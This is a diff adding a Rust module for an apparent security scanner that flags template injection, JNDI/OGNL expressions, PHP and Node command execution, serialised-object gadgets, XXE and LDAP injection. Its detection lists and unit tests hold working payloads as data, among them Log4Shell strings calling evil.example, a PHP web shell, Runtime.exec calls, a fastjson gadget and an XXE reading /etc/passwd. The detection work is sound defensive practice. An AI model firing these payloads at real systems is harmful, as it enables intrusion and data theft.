@@ -1,0 +1,573 @@
+//! Whether a text is an expression that a template engine, a language or a reader of objects would run.
+
+use super::{Finding, Weight};
+
+/// The gravest reading of a text in small letters; `raw` is the same with its letters as they came.
+pub(super) fn assess(text: &str, raw: &str) -> Option<Finding> {
+    let readings = [
+        (
+            "template",
+            "an expression that a template engine would run",
+            template(text),
+        ),
+        (
+            "injection-java",
+            "an expression that a Java program would run",
+            java(text),
+        ),
+        ("injection-php", "PHP that a server would run", php(text)),
+        (
+            "injection-generic",
+            "code that a server would run",
+            script(text),
+        ),
+        (
+            "deserialisation",
+            "an object that would run code when it is read",
+            serialised(text, raw),
+        ),
+        ("lfi", "an XML entity that reads elsewhere", entity(text)),
+        (
+            "injection-generic",
+            "a piece of a directory query",
+            directory(text),
+        ),
+    ];
+    readings
+        .into_iter()
+        .filter_map(|(class, what, weight)| {
+            weight.map(|weight| Finding {
+                class,
+                weight,
+                what,
+            })
+        })
+        .max_by_key(|found| found.weight)
+}
+
+/// What stands between two marks, each time.
+fn between<'t>(text: &'t str, open: &str, close: &str) -> Vec<&'t str> {
+    text.match_indices(open)
+        .take(40)
+        .map(|(at, _)| {
+            let inner = &text[at + open.len()..];
+            let end = inner.find(close).unwrap_or_else(|| inner.len().min(400));
+            inner.get(..end).unwrap_or(inner)
+        })
+        .collect()
+}
+
+/// `7*7` and the like: arithmetic that asks whether it is done.
+fn arithmetic(inner: &str) -> bool {
+    let plain = inner.trim().trim_matches(|c| matches!(c, '=' | '-' | ' '));
+    let mut parts = plain.split(['*', '+', '-', '/']);
+    let number = |part: &str| {
+        let part = part.trim().trim_matches(['\'', '"', '(', ')']);
+        !part.is_empty() && part.len() < 12 && part.bytes().all(|b| b.is_ascii_digit())
+    };
+    let (Some(a), Some(b)) = (parts.next(), parts.next()) else {
+        return false;
+    };
+    plain.contains(['*', '+']) && number(a) && number(b)
+}
+
+/// Names that no template of a mail uses.
+const REACHING: [&str; 33] = [
+    "__class__",
+    "__globals__",
+    "__init__",
+    "__mro__",
+    "__subclasses__",
+    "__builtins__",
+    "__import__",
+    "constructor",
+    "prototype",
+    "lipsum",
+    "cycler",
+    "joiner",
+    "self.",
+    "config.",
+    "config[",
+    "config|",
+    "request.application",
+    "request|attr",
+    "popen",
+    "getruntime",
+    "runtime",
+    "processbuilder",
+    "classloader",
+    "execute(",
+    "exec(",
+    "system(",
+    "eval(",
+    "require(",
+    "process.",
+    "file.open",
+    "passthru",
+    "getclass",
+    "_self.env",
+];
+
+fn template(text: &str) -> Option<Weight> {
+    let reaching = |inner: &str| REACHING.iter().any(|name| inner.contains(name));
+    let mut best = None;
+    for (open, close) in [
+        ("{{", "}}"),
+        ("{%", "%}"),
+        ("<%", "%>"),
+        ("#{", "}"),
+        ("${", "}"),
+        ("@{", "}"),
+        ("*{", "}"),
+        ("[[", "]]"),
+        ("{php}", "{/php}"),
+    ] {
+        for inner in between(text, open, close) {
+            if inner.trim().is_empty() {
+                continue;
+            }
+            if reaching(inner) && inner.contains(['(', '[', '.', '|'])
+                || open != "[[" && arithmetic(inner)
+            {
+                best = best.max(Some(Weight::Strong));
+            } else if open == "{php}" {
+                best = best.max(Some(Weight::Strong));
+            }
+        }
+    }
+    if text.contains("<#assign") && text.contains("?new")
+        || text.contains("#set($")
+        || text.contains("#set ($")
+        || text.contains("freemarker.template")
+    {
+        best = Some(Weight::Strong);
+    }
+    if text.contains("@(")
+        && between(text, "@(", ")")
+            .iter()
+            .any(|inner| arithmetic(inner))
+    {
+        best = best.max(Some(Weight::Weak));
+    }
+    best
+}
+
+fn java(text: &str) -> Option<Weight> {
+    if text.contains("${") {
+        // `${${lower:j}ndi:…}` says jndi in the end.
+        let mut plain = text.to_owned();
+        for _ in 0..40 {
+            let Some(end) = plain.find('}') else { break };
+            let Some(begin) = plain[..end].rfind("${") else {
+                break;
+            };
+            let inner = plain[begin + 2..end].to_owned();
+            if inner.starts_with("jndi:") {
+                return Some(Weight::Strong);
+            }
+            let value = match inner.split_once(":-") {
+                Some((_, value)) => value.to_owned(),
+                None => match inner.split_once(':') {
+                    Some(("lower" | "upper", value)) => value.to_owned(),
+                    _ => String::from("?"),
+                },
+            };
+            plain.replace_range(begin..=end, &value);
+            if plain.contains("${jndi:") {
+                return Some(Weight::Strong);
+            }
+        }
+        if plain.contains("jndi:ldap") || plain.contains("jndi:rmi") || plain.contains("jndi:dns") {
+            return Some(Weight::Strong);
+        }
+        let looks = [
+            "env:", "sys:", "java:", "ctx:", "script:", "url:", "dns:", "base64:",
+        ];
+        if between(text, "${", "}")
+            .iter()
+            .any(|inner| looks.iter().any(|look| inner.starts_with(look)))
+        {
+            return Some(Weight::Strong);
+        }
+    }
+    let names = [
+        "java.lang.runtime",
+        "java.lang.processbuilder",
+        "java.lang.processimpl",
+        "java.net.urlclassloader",
+        "javax.script.scriptengine",
+        "java.lang.system",
+        "ognl.ognlcontext",
+        "#_memberaccess",
+        "#context[",
+        "xwork.methodaccessor",
+        "@java.lang",
+        "org.apache.commons.collections.functors",
+        "com.sun.org.apache.xalan",
+        "com.sun.rowset.jdbcrowsetimpl",
+        "org.springframework.context.support.classpathxml",
+        "java.beans.eventhandler",
+        "javax.naming.initialcontext",
+        "org.mvel2",
+        "t(java.",
+        "t (java.",
+        "bsh.interpreter",
+        "groovy.lang",
+        "org.codehaus.groovy",
+        "class.module.classloader",
+        "class.classloader.",
+        "class['classloader']",
+    ];
+    let named = names.iter().any(|name| text.contains(name));
+    let runs = [
+        "getruntime",
+        ".exec(",
+        "exec(",
+        "newinstance",
+        "forname",
+        "start()",
+        "#{",
+        "${",
+        "%{",
+        "=",
+        "@type",
+        "<java",
+        "new ",
+        "t(",
+        "!!",
+        "\"class\"",
+        "<void",
+        "<object",
+        "eval(",
+    ]
+    .iter()
+    .any(|run| text.contains(run));
+    // The trace of an error names classes, too, with a line number behind.
+    let trace = text.contains("\tat ")
+        || text.contains(" at java.")
+        || text.contains(".java:")
+        || text.contains("caused by:");
+    if named && runs {
+        return Some(if trace && !text.contains("getruntime") {
+            Weight::Weak
+        } else {
+            Weight::Strong
+        });
+    }
+    let ognl = between(text, "%{", "}")
+        .iter()
+        .any(|inner| inner.contains('(') && inner.contains(['#', '@']) || arithmetic(inner))
+        || text.contains("(#") && text.contains("=@");
+    if ognl {
+        return Some(Weight::Strong);
+    }
+    named.then_some(Weight::Weak)
+}
+
+fn php(text: &str) -> Option<Weight> {
+    let calls = [
+        "system(",
+        "exec(",
+        "shell_exec(",
+        "passthru(",
+        "eval(",
+        "assert(",
+        "popen(",
+        "proc_open(",
+        "phpinfo(",
+        "base64_decode(",
+        "file_put_contents(",
+        "file_get_contents(",
+        "call_user_func",
+        "create_function(",
+        "preg_replace(",
+        "include(",
+        "include ",
+        "require(",
+        "require ",
+        "echo ",
+        "print(",
+        "die(",
+        "md5(",
+        "var_dump(",
+        "fopen(",
+        "fwrite(",
+        "unlink(",
+        "str_rot13(",
+        "gzinflate(",
+    ];
+    if text.contains("<?php")
+        || text.contains("<?=")
+        || text.contains("<? ")
+        || text.contains("<script language=\"php\"")
+        || text.contains("<script language='php'")
+    {
+        let body = text.split("<?").nth(1).unwrap_or(text);
+        return Some(
+            if calls.iter().any(|call| body.contains(call))
+                || body.contains("$_")
+                || body.contains('`')
+            {
+                Weight::Strong
+            } else {
+                Weight::Weak
+            },
+        );
+    }
+    let inputs = [
+        "$_get",
+        "$_post",
+        "$_request",
+        "$_cookie",
+        "$_server",
+        "$_files",
+        "$globals",
+    ];
+    if inputs.iter().any(|input| text.contains(input)) && text.contains('(') {
+        return Some(Weight::Strong);
+    }
+    if [
+        "php://input",
+        "php://filter",
+        "phar://",
+        "expect://",
+        "zip://",
+        "data://text",
+    ]
+    .iter()
+    .any(|scheme| {
+        text.find(scheme)
+            .is_some_and(|at| at < 12 || text[..at].ends_with('='))
+    }) {
+        return Some(Weight::Strong);
+    }
+    let whole = text.trim().trim_end_matches([';', ')', '}', '/', ' ']);
+    let starts = calls[..16].iter().any(|call| {
+        whole
+            .trim_start_matches(['@', '$', '{', ';', '\'', '"', '.', '&', '|', ' ', ')'])
+            .starts_with(call)
+    });
+    if starts && text.len() < 2_000 && text.contains(['\'', '"', '$', ')']) && !super::wide(text) {
+        return Some(Weight::Strong);
+    }
+    let settings = [
+        "auto_prepend_file",
+        "allow_url_include",
+        "-d+allow_url",
+        "think\\app/invokefunction",
+        "think\\app\\invokefunction",
+        "think\\request/input",
+        "invokefunction&function=",
+        "_method=__construct",
+        "\\think\\",
+    ];
+    if settings.iter().any(|setting| text.contains(setting)) {
+        return Some(Weight::Strong);
+    }
+    None
+}
+
+fn script(text: &str) -> Option<Weight> {
+    let sure = [
+        "require('child_process')",
+        "require(\"child_process\")",
+        "require(`child_process`)",
+        "process.mainmodule",
+        "global.process",
+        "child_process').exec",
+        "constructor.constructor(",
+        "['constructor']['constructor']",
+        "this.constructor.constructor",
+        "__import__('os')",
+        "__import__(\"os\")",
+        "os.system(",
+        "os.popen(",
+        "subprocess.popen(",
+        "subprocess.check_output(",
+        "subprocess.call(",
+        "io.popen(",
+        "kernel.exec",
+        "%x(",
+        "process.binding(",
+    ];
+    if sure.iter().any(|call| text.contains(call)) {
+        return Some(Weight::Strong);
+    }
+    if text.contains("__proto__")
+        || text.contains("constructor.prototype")
+        || text.contains("constructor[prototype]")
+    {
+        return Some(Weight::Strong);
+    }
+    if text.contains("\"$where\"")
+        || text.contains("$where=")
+        || text.contains("\"$ne\"")
+        || text.contains("\"$gt\":\"\"")
+        || text.contains("||'1'=='1")
+    {
+        return Some(Weight::Strong);
+    }
+    None
+}
+
+fn serialised(text: &str, raw: &str) -> Option<Weight> {
+    // Java, in bytes, in base64 and in hex.
+    if raw.contains("rO0AB") || text.contains("aced0005") || raw.contains("\u{fffd}\u{fffd}\0\u{5}")
+    {
+        return Some(Weight::Strong);
+    }
+    // .NET
+    if raw.contains("AAEAAAD/////") {
+        return Some(Weight::Strong);
+    }
+    // PHP: O:8:"Customer":1:{s:4:…
+    for (at, _) in text.match_indices(":\"").take(40) {
+        let front = &text[..at];
+        let digits = front.len() - front.trim_end_matches(|c: char| c.is_ascii_digit()).len();
+        let kind = &front[..front.len() - digits];
+        let rest = &text[at + 2..];
+        let Some(end) = rest.find("\":") else {
+            continue;
+        };
+        let after = &rest[end + 2..];
+        let count = after.bytes().take_while(u8::is_ascii_digit).count();
+        if digits > 0
+            && (kind.ends_with("o:") || kind.ends_with("c:"))
+            && count > 0
+            && after[count..].starts_with(":{")
+        {
+            return Some(Weight::Strong);
+        }
+    }
+    // Node, Python, YAML, fastjson, XStream
+    if raw.contains("_$$ND_FUNC$$_")
+        || text.contains("cos\nsystem")
+        || text.contains("cposix\nsystem")
+        || text.contains("c__builtin__\n")
+        || text.contains("csubprocess\n")
+    {
+        return Some(Weight::Strong);
+    }
+    if [
+        "!!javax.",
+        "!!java.",
+        "!!python/object",
+        "!!com.sun",
+        "!ruby/object",
+        "!ruby/hash",
+    ]
+    .iter()
+    .any(|tag| text.contains(tag))
+    {
+        return Some(Weight::Strong);
+    }
+    if text.contains("\"@type\"")
+        && ["java.", "com.sun", "org.apache", "javax.", "jdbc", "ldap"]
+            .iter()
+            .any(|name| text.contains(name))
+    {
+        return Some(Weight::Strong);
+    }
+    if raw.starts_with("gASV") || raw.starts_with("H4sIAAAAAAAA") && raw.len() > 40 {
+        return Some(Weight::Weak);
+    }
+    None
+}
+
+fn entity(text: &str) -> Option<Weight> {
+    let declared = text.contains("<!entity")
+        && (text.contains("system") || text.contains("public") || text.contains('%'));
+    let doctype = text.contains("<!doctype") && text.contains("[") && text.contains("<!");
+    if declared || text.contains("<xi:include") && text.contains("href") {
+        return Some(Weight::Strong);
+    }
+    (doctype && text.contains("<!element")).then_some(Weight::Weak)
+}
+
+/// LDAP and XPath: `*)(uid=*))(|(uid=*`, `' or count(/*)=1 or 'a'='b`.
+fn directory(text: &str) -> Option<Weight> {
+    let ldap = [
+        "*)(",
+        ")(|(",
+        ")(&(",
+        ")(uid=",
+        ")(cn=",
+        "*))%00",
+        "*)(objectclass",
+    ];
+    let found = ldap.iter().filter(|piece| text.contains(**piece)).count();
+    let balanced = text
+        .matches('(')
+        .count()
+        .abs_diff(text.matches(')').count());
+    if (found >= 2 || found == 1 && balanced >= 1)
+        && text.contains('=')
+        && text.len() < 300
+        && !text.contains("function")
+    {
+        return Some(Weight::Strong);
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn strong(text: &str) -> bool {
+        assess(&text.to_lowercase(), text).is_some_and(|found| found.weight == Weight::Strong)
+    }
+
+    #[test]
+    fn expressions_that_would_run_are_found() {
+        let mut wrong = Vec::new();
+        for text in [
+            "{{7*7}}",
+            "{{''.__class__.__mro__[1].__subclasses__()}}",
+            "${7*7}",
+            "<%= 7*7 %>",
+            "#{7*7}",
+            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
+            "${jndi:ldap://evil.example/a}",
+            "${${lower:j}${::-n}di:ldap://evil.example/a}",
+            "${${env:X:-j}ndi:rmi://x/a}",
+            "T(java.lang.Runtime).getRuntime().exec('id')",
+            "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
+            "<?php system($_GET['c']); ?>",
+            "php://filter/convert.base64-encode/resource=index.php",
+            "system('id');",
+            "require('child_process').exec('id')",
+            "O:8:\"Customer\":1:{s:4:\"name\";s:1:\"x\";}",
+            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
+            "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x/a\"}",
+            "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
+            "*)(uid=*))(|(uid=*",
+            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
+        ] {
+            if !strong(text) {
+                wrong.push(text);
+            }
+        }
+        assert!(wrong.is_empty(), "{wrong:#?}");
+    }
+
+    #[test]
+    fn templates_of_mails_and_prose_are_not() {
+        let mut wrong = Vec::new();
+        for text in [
+            "尊敬的{{name}},您的订单{{order.id}}已发货",
+            "Dear ${customer.name}, your balance is ${amount}",
+            "#{tag} 50% off",
+            "java.lang.NullPointerException\n\tat com.example.A.b(A.java:12)",
+            "price = 7*7",
+            "<?xml version=\"1.0\"?><a/>",
+            "a:1:b",
+            "call system (support) for help",
+        ] {
+            if strong(text) {
+                wrong.push(text);
+            }
+        }
+        assert!(wrong.is_empty(), "{wrong:#?}");
+    }
+}
